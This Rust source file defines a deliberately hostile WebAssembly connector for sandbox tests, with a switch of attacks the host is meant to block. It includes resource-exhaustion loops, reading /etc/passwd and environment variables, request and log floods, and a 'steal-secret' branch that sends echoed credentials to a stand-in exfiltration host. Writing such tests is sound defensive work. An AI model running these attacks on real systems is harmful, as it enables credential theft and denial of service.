//! A hostile connector for the sandbox tests. Its `fetch-page` carries out
//! the attack named by the config's `attack` field; the host must stop each
//! one with a clear, classified error and keep working.

wit_bindgen::generate!({
    path: "../../../wit/v0.1.0",
    world: "connector-core",
    generate_all,
});

use std::cell::RefCell;
use std::hint::black_box;

use connector::source::storage;
use connector::source::types::{
    AuthKind, AuthScheme, ConnectorError, ConnectorSpec, NormalizedRecord, Page, PageRequest,
    StreamInfo, SyncMode, Warning,
};
use exports::connector::source::source::Guest;
use serde::Deserialize;
use wasi::logging::logging::{log, Level};

struct Hostile;

#[derive(Clone, Deserialize)]
struct Config {
    attack: String,
    #[serde(default)]
    url: String,
    #[serde(default)]
    size_mb: usize,
}

thread_local! {
    static CONFIG: RefCell<Option<(Config, String)>> = const { RefCell::new(None) };
}

fn page(records: Vec<String>) -> Page {
    Page {
        records,
        next_cursor: None,
        done: true,
        budgets: Vec::new(),
        requests: 0,
    }
}

/// GET `url`; the outcome as text, never an error.
fn fetch(url: &str) -> (Option<u16>, String, Option<String>) {
    match waki::Client::new().get(url).send() {
        Ok(response) => {
            let status = response.status_code();
            let location = response
                .header("location")
                .and_then(|v| v.to_str().ok())
                .map(String::from);
            match response.body() {
                Ok(body) => (
                    Some(status),
                    String::from_utf8_lossy(&body).into_owned(),
                    location,
                ),
                Err(e) => (None, format!("reading the body failed: {e:?}"), None),
            }
        }
        Err(e) => (None, format!("{e:?}"), None),
    }
}

/// Starts `size_mb` thousand requests to `url` without waiting for any,
/// then waits for each: the host must refuse those past its cap.
fn requests_in_flight(config: &Config) -> ConnectorError {
    use wasip2::http::outgoing_handler::{handle, OutgoingRequest};
    use wasip2::http::types::{Fields, Scheme};
    let (authority, path) = config
        .url
        .trim_start_matches("https://")
        .split_once('/')
        .unwrap_or((&config.url, ""));
    let mut pending = Vec::new();
    for _ in 0..config.size_mb * 1000 {
        let request = OutgoingRequest::new(Fields::new());
        let _ = request.set_scheme(Some(&Scheme::Https));
        let _ = request.set_authority(Some(authority));
        let _ = request.set_path_with_query(Some(&format!("/{path}")));
        pending.push(handle(request, None));
    }
    let (mut answered, mut refused) = (0, 0);
    let mut responses = Vec::new();
    for future in pending {
        match future {
            Err(_) => refused += 1,
            Ok(future) => {
                future.subscribe().block();
                match future.get() {
                    Some(Ok(Ok(response))) => {
                        answered += 1;
                        // Kept: its body (and its place in flight) too.
                        responses.push(response);
                    }
                    _ => refused += 1,
                }
            }
        }
    }
    ConnectorError::Transient(format!("{answered} answered, {refused} refused"))
}

/// Unbounded recursion that lives on the WebAssembly stack (the call goes
/// through an opaque function pointer, so it cannot become a loop).
#[inline(never)]
fn recurse(depth: u64) -> u64 {
    let next: fn(u64) -> u64 = black_box(recurse);
    next(depth + 1).wrapping_add(depth)
}

fn attack(config: &Config, raw_config: &str) -> Result<Page, ConnectorError> {
    match config.attack.as_str() {
        "cpu-loop" => {
            let mut n = 0u64;
            loop {
                n = black_box(n.wrapping_add(1));
            }
        }
        "memory-bomb" => {
            let mut hoard = Vec::new();
            loop {
                hoard.push(black_box(vec![1u8; 1 << 20]));
            }
        }
        "stack-overflow" => Ok(page(vec![recurse(0).to_string()])),
        "request" => match fetch(&config.url) {
            (Some(status), body, _) => Ok(page(vec![
                serde_json::json!({"status": status, "body": body}).to_string(),
            ])),
            (None, error, _) => Err(ConnectorError::Transient(format!(
                "request to {} failed: {error}",
                config.url
            ))),
        },
        "follow-redirect" => {
            let (status, _, location) = fetch(&config.url);
            let Some(location) = location else {
                return Err(ConnectorError::Protocol(format!(
                    "expected a redirect, got {status:?}"
                )));
            };
            match fetch(&location) {
                (Some(status), _, _) => Ok(page(vec![format!("followed to {status}")])),
                (None, error, _) => Err(ConnectorError::Transient(format!(
                    "following the redirect to {location} failed: {error}"
                ))),
            }
        }
        "read-file-and-env" => {
            let file = match std::fs::read_to_string("/etc/passwd") {
                Ok(text) => format!("READ {} bytes", text.len()),
                Err(e) => format!("denied: {e}"),
            };
            let env: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
            let args: Vec<String> = std::env::args().collect();
            let cwd = std::env::current_dir()
                .map(|p| p.display().to_string())
                .ok();
            Ok(page(vec![serde_json::json!({
                "file": file, "env": env, "args": args, "cwd": cwd,
            })
            .to_string()]))
        }
        "steal-secret" => {
            // The config the connector was given, and whatever an allowed
            // host echoes back of the request's credentials.
            let (_, echoed, _) = fetch(&config.url);
            log(
                Level::Error,
                "steal",
                &format!("config {raw_config} echoed {echoed}"),
            );
            println!("stdout: {echoed}");
            let (exfil_status, exfil, _) = fetch(&format!(
                "https://exfiltrate.example.net/?loot={}",
                echoed.replace(' ', "+")
            ));
            Err(ConnectorError::Internal(format!(
                "config {raw_config}; echoed {echoed}; exfiltration {exfil_status:?} {exfil}"
            )))
        }
        "log-flood" => {
            let line = "x".repeat(1_000);
            for i in 0..20_000 {
                log(Level::Info, "flood", &format!("{i} {line}"));
            }
            for i in 0..2_000 {
                println!("{i} {line}");
            }
            Ok(page(vec!["{\"survived\":true}".into()]))
        }
        "storage-quota" => {
            let value = vec![7u8; 1 << 20];
            for i in 0.. {
                if let Err(e) = storage::set(&format!("hoard-{i}"), &value) {
                    return Err(ConnectorError::Internal(format!(
                        "storage refused after {i} values: {e:?}"
                    )));
                }
            }
            unreachable!()
        }
        "sleep" => {
            // Blocks in a host timer: no CPU is used while it waits.
            std::thread::sleep(std::time::Duration::from_secs(3600));
            Ok(page(vec!["{\"woke\":true}".into()]))
        }
        "requests-in-flight" => Err(requests_in_flight(config)),
        "huge-cursor" => Ok(Page {
            next_cursor: Some("c".repeat(config.size_mb << 20)),
            done: false,
            ..page(vec!["{}".into()])
        }),
        "huge-key" => Ok(page(vec!["{}".into()])),
        "invalid-utf8" => {
            // Bytes that are not UTF-8, passed off as a WIT `string`: the
            // host must refuse them when it lifts the page. SAFETY: none,
            // on purpose; the guest only hands the bytes over, never reads
            // them as text.
            let bytes = black_box(vec![b'{', 0xff, 0xfe, b'"', 0xc0, b'}']);
            Ok(page(vec![unsafe { String::from_utf8_unchecked(bytes) }]))
        }
        "huge-page" => {
            let record = format!("\"{}\"", "y".repeat((1 << 20) - 2));
            Ok(page(vec![record; config.size_mb]))
        }
        other => Err(ConnectorError::Config(vec![
            connector::source::types::FieldError {
                field: "attack".into(),
                message: format!("unknown attack `{other}`"),
            },
        ])),
    }
}

impl Guest for Hostile {
    fn spec() -> ConnectorSpec {
        ConnectorSpec {
            name: "hostile".into(),
            version: "0.0.0".into(),
            description: "Attacks its host (sandbox tests only)".into(),
            config_schema: serde_json::json!({
                "type": "object",
                "properties": {
                    "host": {"type": "string"},
                    "api_key": {"type": "string", "x-secret": true},
                    "attack": {"type": "string"},
                    "url": {"type": "string"},
                    "size_mb": {"type": "integer"}
                }
            })
            .to_string(),
            auth_schemes: vec![AuthScheme {
                id: "api_key".into(),
                description: "A bearer API key".into(),
                required_fields: vec!["api_key".into()],
                kind: AuthKind::Bearer("{api_key}".into()),
            }],
            allowed_hosts: vec!["https://{host}".into()],
        }
    }

    fn configure(config: String, _auth_scheme: String) -> Result<String, ConnectorError> {
        let parsed: Config = serde_json::from_str(&config)
            .map_err(|e| ConnectorError::Internal(format!("bad test config: {e}")))?;
        CONFIG.with(|c| *c.borrow_mut() = Some((parsed, config.clone())));
        Ok(config)
    }

    fn check() -> Result<Vec<Warning>, ConnectorError> {
        Ok(Vec::new())
    }

    fn discover() -> Result<Vec<StreamInfo>, ConnectorError> {
        Ok(vec![StreamInfo {
            name: "loot".into(),
            description: "Whatever the attack obtained".into(),
            record_kinds: vec!["loot".into()],
            json_schema: "{}".into(),
            primary_key: Vec::new(),
            cursor_field: None,
            sync_modes: vec![SyncMode::FullRefresh],
            depends_on: Vec::new(),
            optional: false,
        }])
    }

    fn fetch_page(_request: PageRequest) -> Result<Page, ConnectorError> {
        let (config, raw) = CONFIG
            .with(|c| c.borrow().clone())
            .ok_or_else(|| ConnectorError::Internal("not configured".into()))?;
        attack(&config, &raw)
    }

    fn map_record(_stream: String, raw: String) -> Result<Vec<NormalizedRecord>, ConnectorError> {
        let huge = CONFIG.with(|c| {
            c.borrow()
                .as_ref()
                .filter(|(config, _)| config.attack == "huge-key")
                .map(|(config, _)| config.size_mb)
        });
        Ok(vec![NormalizedRecord {
            kind: "loot".into(),
            key: huge.map_or("0".into(), |mb| "k".repeat(mb << 20)),
            version: None,
            data: raw,
            deleted: false,
        }])
    }
}

export!(Hostile);
